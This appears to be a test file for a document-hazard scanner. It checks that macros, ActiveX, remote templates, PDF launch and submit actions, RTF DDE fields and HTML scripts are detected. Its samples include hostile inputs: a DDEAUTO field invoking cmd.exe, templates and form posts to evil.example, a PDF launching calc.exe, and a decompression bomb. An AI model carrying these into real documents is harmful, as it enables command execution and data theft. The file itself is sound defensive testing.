import { deflateSync } from 'node:zlib';
import CFB from 'cfb';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import { describe, expect, test } from 'vitest';
import { hazardsIn } from '../../../src/document/index.ts';
import { sniffFormat } from '../../../src/file/index.ts';
import { hazardsOf, reasonFor } from '../../../src/review/index.ts';
import { zip } from '../../file/zips.ts';

const types = Buffer.from('<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>');
const relationship = (type: string, target: string, mode = 'External') =>
  Buffer.from(
    `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`,
  );
const office = (main: string, parts: Record<string, Buffer> = {}) =>
  zip({ '[Content_Types].xml': types, [main]: Buffer.from('<x/>'), ...parts });
const some = Buffer.from('x');

/** A sheet as the workbook lists it ([MS-XLS] 2.4.28): its kind stands in the sixth byte. */
const sheet = (kind: number) => Buffer.concat([Buffer.from([0x85, 0, 9, 0, 0, 0, 0, 0, 0, kind, 1, 0]), some]);
const book = Buffer.concat([Buffer.from([0x09, 0x08, 4, 0, 0, 6, 5, 0])]);
const compound = (streams: Record<string, Buffer>) => {
  const file = CFB.utils.cfb_new();
  for (const [name, content] of Object.entries(streams)) CFB.utils.cfb_add(file, `/${name}`, content);
  return Buffer.from(CFB.write(file, { type: 'buffer' }) as Buffer);
};

describe('Office files', () => {
  test.each<[string, () => Promise<Buffer> | Buffer, string[]]>([
    ['nothing', () => office('word/document.xml'), []],
    ['VBA', () => office('word/document.xml', { 'word/vbaProject.bin': some }), ['macros']],
    ['VBA in a workbook', () => office('xl/workbook.xml', { 'xl/vbaProject.bin': some }), ['macros']],
    ['Excel 4 macros', () => office('xl/workbook.xml', { 'xl/macrosheets/sheet1.xml': some }), ['macros']],
    ['VBA in a presentation', () => office('ppt/presentation.xml', { 'ppt/vbaProject.bin': some }), ['macros']],
    ['ActiveX', () => office('word/document.xml', { 'word/activeX/activeX1.bin': some }), ['active_controls']],
    ['an object', () => office('word/document.xml', { 'word/embeddings/oleObject1.bin': some }), ['embedded_files']],
    [
      'a template on a server',
      () =>
        office('word/document.xml', {
          'word/_rels/settings.xml.rels': relationship('attachedTemplate', 'https://evil.example/t.dotm'),
        }),
      ['external_references'],
    ],
    [
      'an object on a server, of a part that nothing points to',
      () =>
        office('word/document.xml', {
          'word/_rels/x9.xml.rels': relationship('oleObject', 'mhtml:https://e.example!x'),
        }),
      ['external_references'],
    ],
    [
      'a frame from a share',
      () =>
        office('word/document.xml', { 'word/_rels/webSettings.xml.rels': relationship('frame', '\\\\192.0.2.1\\x') }),
      ['external_references'],
    ],
    [
      'a plain link',
      () =>
        office('word/document.xml', { 'word/_rels/document.xml.rels': relationship('hyperlink', 'https://a.example') }),
      [],
    ],
    [
      'a part of its own',
      () => office('word/document.xml', { 'word/_rels/document.xml.rels': relationship('image', 'a.png', 'Internal') }),
      [],
    ],
    [
      'DDE in a workbook',
      () => office('xl/workbook.xml', { 'xl/externalLinks/externalLink1.xml': some }),
      ['external_references'],
    ],
    ['an old Word file without anything', () => compound({ WordDocument: some }), []],
    ['VBA in an old Word file', () => compound({ WordDocument: some, 'Macros/VBA/dir': some }), ['macros']],
    [
      'an object in an old Word file',
      () => compound({ WordDocument: some, 'ObjectPool/_1/CompObj': some }),
      ['embedded_files'],
    ],
    ['an old workbook without anything', () => compound({ Workbook: Buffer.concat([book, sheet(0)]) }), []],
    ['VBA in an old workbook', () => compound({ Workbook: book, '_VBA_PROJECT_CUR/VBA/dir': some }), ['macros']],
    [
      'Excel 4 macros in an old workbook',
      () => compound({ Workbook: Buffer.concat([book, sheet(0), sheet(1)]) }),
      ['macros'],
    ],
    [
      'DDE in an old workbook',
      () => compound({ Workbook: Buffer.concat([book, Buffer.from([0xae, 1, 8, 0, 1, 0, 4, 0, 0, 0x63, 3, 0x78])]) }),
      ['external_references'],
    ],
  ])('%s', async (_, make, expected) => {
    const bytes = await make();
    expect(hazardsIn(bytes, sniffFormat(bytes))).toEqual(expected);
  });
});

const pdf = async (change: (file: PDFDocument) => void, useObjectStreams: boolean) => {
  const file = await PDFDocument.create();
  file.addPage();
  change(file);
  return Buffer.from(await file.save({ useObjectStreams }));
};
const opens = (action: object) => (file: PDFDocument) =>
  file.catalog.set(PDFName.of('OpenAction'), file.context.obj(action as Record<string, string>));

describe.each([
  ['in the clear', false],
  ['in packed objects', true],
])('PDF actions %s', (_, packed) => {
  test.each<[string, (file: PDFDocument) => void, string[]]>([
    ['nothing', () => {}, []],
    ['a script', (file) => file.addJavaScript('start', 'app.alert(1)'), ['scripts']],
    ['a program', opens({ S: 'Launch', F: PDFString.of('calc.exe') }), ['launch_actions']],
    ['sending the answers', opens({ S: 'SubmitForm', F: PDFString.of('https://evil.example') }), ['submit_actions']],
    ['another file', opens({ S: 'GoToR', F: PDFString.of('\\\\192.0.2.1\\x.pdf') }), ['external_references']],
    ['a file inside', opens({ S: 'GoToE' }), ['embedded_files']],
    ['a film with a script', opens({ S: 'Rendition' }), ['scripts']],
    ['a link', opens({ S: 'URI', URI: PDFString.of('https://a.example') }), []],
  ])('%s', async (__, change, expected) => {
    expect(hazardsIn(await pdf(change, packed), 'pdf')).toEqual(expected);
  });
});

test.each([
  ['a letter written as a number', '%PDF-1.7\n1 0 obj<</S/J#61vaScript>>', ['scripts']],
  ['the beginning of a longer name', '%PDF-1.7\n1 0 obj<</LaunchPad 1>>', []],
  ['several', '%PDF-1.7\n<</S /Launch>><</S /JavaScript>>', ['launch_actions', 'scripts']],
])('in the bytes of a PDF: %s', (_, text, expected) => {
  expect(hazardsIn(Buffer.from(text), 'pdf')).toEqual(expected);
});

test('packed objects that are bombs, or are not packed at all, end under the bound', () => {
  const bomb = deflateSync(Buffer.alloc(200_000_000));
  const stream = (content: Buffer) =>
    Buffer.concat([Buffer.from('<</Type/ObjStm/Filter/FlateDecode>>stream\r\n'), content, Buffer.from('\nendstream ')]);
  const broken = Buffer.concat([Buffer.from('%PDF-1.7\n'), ...Array.from({ length: 5_000 }, () => stream(some))]);
  const started = performance.now();
  expect(
    hazardsIn(Buffer.concat([Buffer.from('%PDF-1.7\n'), ...Array.from({ length: 50 }, () => stream(bomb))]), 'pdf'),
  ).toEqual([]);
  expect(hazardsIn(broken, 'pdf')).toEqual([]);
  expect(performance.now() - started).toBeLessThan(20_000);
});

describe('typed files', () => {
  test.each([
    ['a plain RTF', String.raw`{\rtf1 The template of DDE is plain}`, []],
    [
      'an object that brings itself up to date',
      String.raw`{\rtf1{\object\objautlink\objupdate{\*\objdata 00}}}`,
      ['embedded_files', 'external_references'],
    ],
    ['an OCX', String.raw`{\rtf1{\object\objocx{\*\objdata 00}}}`, ['embedded_files', 'active_controls']],
    ['a template on a server', String.raw`{\rtf1{\*\template http://evil.example/t.dot}}`, ['external_references']],
    ['a template on the own machine', String.raw`{\rtf1{\*\template C:\\Normal.dotm}}`, []],
    ['DDE', String.raw`{\rtf1{\field{\*\fldinst DDEAUTO c:\\cmd.exe "/k"}{\fldrslt x}}}`, ['external_references']],
    ['a plain page', '<!doctype html><p>On load = good</p><a href="https://a.example">a</a>', []],
    ['a script', '<!doctype html><script>x</script>', ['scripts']],
    ['a script in an attribute', '<!doctype html><img src=x onerror=alert(1)>', ['scripts']],
    ['a script in a link', '<!doctype html><a href="javascript:x">a</a>', ['scripts']],
    ['a frame', '<!doctype html><iframe src=//evil.example>', ['external_references']],
    [
      'going elsewhere by itself',
      '<!doctype html><meta http-equiv="refresh" content="0;url=//e.example">',
      ['external_references'],
    ],
    [
      'a sign-in page that sends elsewhere',
      '<!doctype html><form method=post action="https://evil.example/p">',
      ['submit_actions'],
    ],
  ])('%s', (_, text, expected) => {
    const bytes = Buffer.from(text);
    expect(hazardsIn(bytes, sniffFormat(bytes))).toEqual(expected);
  });

  test.each([
    ['RTF', '{\\rtf1', '\\template{'.repeat(200_000)],
    ['RTF', '{\\rtf1', '\\fldinst '.repeat(200_000)],
    ['HTML', '<!doctype html>', '<form '.repeat(300_000)],
    ['HTML', '<!doctype html>', '<meta '.repeat(300_000)],
  ])('%s that is made to be searched for ever is searched in time', (_, start, rest) => {
    const bytes = Buffer.from(start + rest);
    const started = performance.now();
    hazardsIn(bytes, sniffFormat(bytes));
    expect(performance.now() - started).toBeLessThan(3_000);
  });
});

test('every hazard has its words for a person, and what is embedded, or a macro in a form, is never filed unseen', () => {
  const all = [
    'macros',
    'active_controls',
    'scripts',
    'launch_actions',
    'submit_actions',
    'embedded_files',
    'external_references',
  ] as const;
  expect(hazardsOf(all, true)).toEqual({ notes: [...all], reasons: ['macros', 'embedded_files'] });
  expect(hazardsOf(['comments', 'tracked_changes'], true)).toEqual({ notes: [], reasons: [] });
  for (const code of all)
    expect(reasonFor(code)).toEqual({ why: expect.stringMatching(/^The|^Other/), toDo: expect.stringMatching(/\.$/) });
});
